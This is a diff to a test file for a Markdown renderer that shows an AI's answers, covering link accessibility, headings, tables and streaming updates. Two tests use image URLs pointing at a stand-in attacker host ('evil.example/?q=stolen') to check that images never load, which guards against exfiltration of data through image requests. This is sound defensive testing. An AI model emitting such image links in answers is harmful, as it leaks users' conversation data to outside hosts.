@@ -15,7 +15,7 @@ describe('the Markdown of an answer', () => {
 
   it('opens links elsewhere, without handing over this page', () => {
     shown('[there](https://example.org/a)');
-    const link = screen.getByRole('link', { name: 'there' });
+    const link = screen.getByRole('link', { name: 'there (opens in a new tab)' });
     expect(link).toHaveAttribute('rel', expect.stringContaining('noopener'));
     expect(link).toHaveAttribute('target', '_blank');
   });
@@ -23,7 +23,38 @@ describe('the Markdown of an answer', () => {
   it('loads no image from anywhere, and links to it instead', () => {
     const view = shown('![secret](https://evil.example/?q=stolen)');
     expect(view.querySelector('img')).toBeNull();
-    expect(screen.getByRole('link', { name: 'secret' })).toHaveAttribute('href', 'https://evil.example/?q=stolen');
+    expect(screen.getByRole('link', { name: 'Image: secret (opens in a new tab)' })).toHaveAttribute('href', 'https://evil.example/?q=stolen');
+  });
+
+  it('keeps a link around an image one link', () => {
+    const view = shown('[![chart](https://evil.example/i.png)](https://example.org)');
+    expect(view.querySelectorAll('a')).toHaveLength(1);
+    expect(screen.getByRole('link')).toHaveAttribute('href', 'https://example.org');
+  });
+
+  it('stays in this tab for a note or a letter', () => {
+    shown('[write](mailto:ada@example.org)');
+    expect(screen.getByRole('link', { name: 'write' })).not.toHaveAttribute('target');
+  });
+
+  it('keeps its headings below that of the answer, whatever their level', () => {
+    const view = shown('# One\n\n#### Four');
+    expect([...view.querySelectorAll('h1, h2, h3, h4, h5, h6')].map(({ tagName }) => tagName)).toEqual(['H3', 'H3']);
+    expect(screen.getByRole('heading', { name: 'Four' })).toHaveAttribute('data-level', '4');
+  });
+
+  it('lets a wide table scroll inside of itself, also with keys', () => {
+    shown('| a | b |\n|---|---|\n| 1 | 2 |');
+    expect(screen.getByRole('group', { name: 'Table' })).toContainElement(screen.getByRole('table'));
+    expect(screen.getByRole('group', { name: 'Table' })).toHaveAttribute('tabindex', '0');
+  });
+
+  it('leaves what is settled alone while more is written behind it', () => {
+    const { container, rerender } = render(<Markdown text={'First.\n\nSec'} growing={true} />);
+    const first = container.querySelector('p');
+    rerender(<Markdown text={'First.\n\nSecond.\n\nThird'} growing={true} />);
+    expect(container.querySelector('p')).toBe(first);
+    expect(container.querySelectorAll('.prose > p')).toHaveLength(3);
   });
 
   it.each([
